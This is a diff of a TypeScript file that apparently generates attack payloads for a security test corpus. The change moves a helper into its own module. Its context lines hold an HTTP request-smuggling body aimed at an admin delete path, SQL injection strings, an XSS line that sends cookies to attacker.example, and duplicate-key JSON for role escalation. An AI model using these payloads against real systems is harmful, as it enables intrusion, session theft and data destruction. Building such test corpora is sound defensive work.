@@ -1,5 +1,6 @@
 import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
 import type { WholeWriter } from '../../make/whole.ts';
+import { named } from './named.ts';
 
 const formType = 'application/x-www-form-urlencoded';
 
@@ -11,14 +12,9 @@ export function writeFramed(write: WholeWriter): void {
   writeObjects(write);
 }
 
-const named =
-  (write: WholeWriter): ((technique: string) => void) =>
-  technique =>
-    write.as({ class: 'protocol', technique });
-
 /** A second request inside the first. */
 function writeSmuggled(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'protocol');
   technique('a request in the body');
   for (const body of [
     '0\r\n\r\nGET /admin/delete?u=carlos HTTP/1.1\r\nHost: localhost\r\nX-Pad: ',
@@ -60,7 +56,7 @@ function writeSmuggled(write: WholeWriter): void {
 
 /** Bodies packed or written in another character set. */
 function writePacked(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'protocol');
   const attack = "user=admin'+or+'1'='1'--+&pass=x";
   const script = 'comment=<script>document.location="//attacker.example/"+document.cookie</script>';
   technique('packed bodies');
@@ -114,7 +110,7 @@ function writePacked(write: WholeWriter): void {
 
 /** Multipart bodies that two readers take apart in two ways. */
 function writeParts(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'protocol');
   const part = (mark: string, head: string, text: string): string =>
     `--${mark}\r\nContent-Disposition: form-data; ${head}\r\n\r\n${text}\r\n`;
   const evil = "1' union select secret from keys--";
@@ -177,7 +173,7 @@ function writeParts(write: WholeWriter): void {
 
 /** JSON and GraphQL that differ from reader to reader, or wear out. */
 function writeObjects(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'protocol');
   technique('keys twice with two values');
   for (const text of [
     '{"role":"viewer","role":"owner"}',
